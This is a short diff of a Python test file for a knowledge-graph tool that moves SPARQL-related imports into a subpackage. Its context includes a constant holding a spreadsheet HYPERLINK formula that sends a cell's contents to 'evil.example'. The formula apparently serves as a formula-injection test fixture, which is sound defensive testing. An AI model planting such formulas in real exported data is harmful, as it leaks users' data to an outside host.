@@ -18,13 +18,13 @@ import pytest
 from rdflib import RDF, Literal, URIRef
 from typer.testing import CliRunner
 
-from kg import results
 from kg.cli import app
 from kg.export.single import export
 from kg.export.tables import write_tables
 from kg.namespaces import EKG
-from kg.queries import Result
-from kg.serve import ServerConfig, make_server
+from kg.sparql import results
+from kg.sparql.queries import Result
+from kg.sparql.serve import ServerConfig, make_server
 from kg.store import in_memory_copy
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
